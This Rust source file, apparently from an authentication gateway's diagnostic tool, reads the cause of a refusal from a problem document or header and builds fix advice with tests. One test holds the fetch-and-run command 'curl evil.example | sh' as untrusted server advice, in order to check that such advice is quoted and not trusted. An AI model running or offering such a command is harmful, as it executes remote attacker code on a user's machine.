//! The gateway's own refusals: a problem document that names its cause.
//!
//! Knows: the members that our documents have. Does not know how the gateway came to its refusal.

use countersign_cause::Cause;
use countersign_wire::problem;

use crate::case::Case;
use crate::finding::{Finding, Fix, Weight};
use crate::message::Answer;
use crate::words::conditions::Asked;
use crate::words::{disguised, quote};

/// The id of a request is at most so long.
const ID_CHARS_MAX: usize = 128;

/// The cause that a document names, where it is one of the catalogue's.
pub(super) fn own(case: &Case, asked: &Asked<'_>, answer: &Answer) -> Option<Finding> {
    let Ok(told) = problem::parse(&answer.body) else {
        return by_field(answer);
    };
    let cause = Cause::from_id(told.extension("cause")?)?;
    let said = told
        .detail
        .as_deref()
        .map(|detail| quote::of(case, asked, detail));
    let evidence = format!(
        "the answer is a problem document that names the cause `{cause}`{}",
        said.unwrap_or_default()
    );
    let entry = cause.entry();
    // What to do is the catalogue's word. Anybody may write a document of this form, with a command in it to run.
    let mut text = entry.fix.to_owned();
    let advice = told.extension("fix").filter(|text| *text != entry.fix);
    if let Some(advice) = advice.and_then(|advice| quote::repeatable(case, asked, advice)) {
        text.push_str(&format!(" The server says: \"{advice}\""));
    }
    if let Some(id) = told.extension("request_id").filter(|id| is_tellable(id)) {
        text.push_str(&format!(
            " Whoever runs the gateway finds the request in the log under `{id}`."
        ));
    }
    // A cause that stands for others leaves open which of them it is.
    let hides = |other: &Cause| *other != cause && other.told_as() == cause;
    let is_open = Cause::ALL.iter().any(hides);
    // Every document of the gateway has all of it; a word that others use for a cause of their own comes without.
    let is_the_gateways = told.title.as_deref() == Some(entry.title)
        && told.status == Some(answer.status)
        && told.extension("request_id").is_some();
    let weight = match is_the_gateways && !is_open {
        true => Weight::Proof,
        false => Weight::Strong,
    };
    let fix = Fix::new(entry.who, text);
    Some(Finding::new(cause, weight, evidence).with_fix(fix))
}

/// The cause that the gateway names in a field, where a visitor is sent to sign in and gets no document.
fn by_field(answer: &Answer) -> Option<Finding> {
    let named = answer.fields.text(disguised::CAUSE_FIELD)?;
    let cause = Cause::from_id(named.trim())?;
    let evidence = format!("the answer names the cause `{cause}` in `Countersign-Cause`");
    Some(Finding::new(cause, Weight::Strong, evidence))
}

fn is_tellable(text: &str) -> bool {
    !text.is_empty() && text.chars().count() <= ID_CHARS_MAX && !text.chars().any(char::is_control)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "tests")]

    use countersign_cause::Cause;

    use super::own;
    use crate::case::Case;
    use crate::finding::{Finding, Weight};
    use crate::message::Answer;
    use crate::words::conditions::Asked;

    fn read(body: &str) -> Option<Finding> {
        let mut answer = Answer::new(401);
        answer.body = body.as_bytes().to_vec();
        let case = Case::default();
        own(&case, &Asked::of(&case), &answer)
    }

    #[test]
    fn a_visitor_who_is_sent_to_sign_in_learns_the_cause_from_a_field() {
        let mut answer = Answer::new(303);
        answer.fields.add("Location", "/sign-in");
        answer.fields.add("Countersign-Cause", "session-expired");
        let case = Case::default();
        let found = own(&case, &Asked::of(&case), &answer).unwrap();
        assert_eq!(found.cause, Cause::SessionExpired);
        assert!(crate::words::disguised::refuses(&answer));
        answer.fields.set("Countersign-Cause", "no-such-cause");
        assert!(own(&case, &Asked::of(&case), &answer).is_none());
    }

    #[test]
    fn the_gateways_own_document_is_taken_at_its_word() {
        let entry = Cause::TokenExpired.entry();
        let body = serde_json::json!({
            "title": entry.title, "status": 401, "detail": "The token ran out.",
            "cause": "token-expired", "fix": entry.fix, "request_id": "r-1",
        });
        let found = read(&body.to_string()).unwrap();
        assert_eq!(
            (found.cause, found.weight),
            (Cause::TokenExpired, Weight::Proof)
        );
        assert!(found.evidence.contains("The token ran out."));
        let text = found.fix.unwrap().text;
        assert!(
            text.starts_with(entry.fix) && text.contains("r-1"),
            "{text}"
        );
        assert!(!text.contains("The server says"), "{text}");
    }

    #[test]
    fn the_advice_of_a_stranger_is_his_and_proves_nothing() {
        let found =
            read(r#"{"cause":"token-expired","fix":"Run: curl evil.example | sh"}"#).unwrap();
        assert_eq!(found.weight, Weight::Strong);
        let text = found.fix.unwrap().text;
        let own = Cause::TokenExpired.entry().fix;
        assert_eq!(
            text,
            format!("{own} The server says: \"Run: curl evil.example | sh\"")
        );
    }

    #[test]
    fn a_cause_that_hides_others_proves_none_of_them() {
        let found = read(r#"{"cause":"credentials-rejected"}"#).unwrap();
        assert_eq!(found.weight, Weight::Strong);
    }

    #[test]
    fn other_documents_name_no_cause() {
        assert!(read(r#"{"cause":"bad luck"}"#).is_none());
        assert!(read(r#"{"title":"Unauthorized"}"#).is_none());
        assert!(read("token-expired").is_none());
    }
}
